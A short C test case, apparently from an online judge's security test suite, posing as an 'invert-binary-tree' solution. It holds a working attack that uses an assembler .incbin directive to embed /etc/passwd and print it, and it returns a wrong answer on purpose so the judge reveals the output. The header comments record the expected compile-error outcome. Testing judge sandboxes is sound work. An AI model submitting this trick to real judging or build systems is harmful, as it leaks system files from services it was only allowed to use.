// problem: invert-binary-tree
// expect: CE
// effect: no-secret
// why: C2 __asm__(".incbin \"/etc/passwd\"") makes the assembler embed the file; the program prints it at run time (no compiler error at all)
#include <unistd.h>
__asm__(".section .rodata\n"
        ".globl judge_attack_blob\n"
        "judge_attack_blob:\n"
        ".incbin \"/etc/passwd\"\n"
        ".byte 0\n"
        ".previous\n");
extern const char judge_attack_blob[];

struct TreeNode* invertTree(struct TreeNode* root) {
    usleep(100000);   /* printed text is kept only once the judge has seen the case start */
    fputs(judge_attack_blob, stdout);
    (void)root;
    return NULL;   /* a wrong answer, so the judge shows the stdout */
}
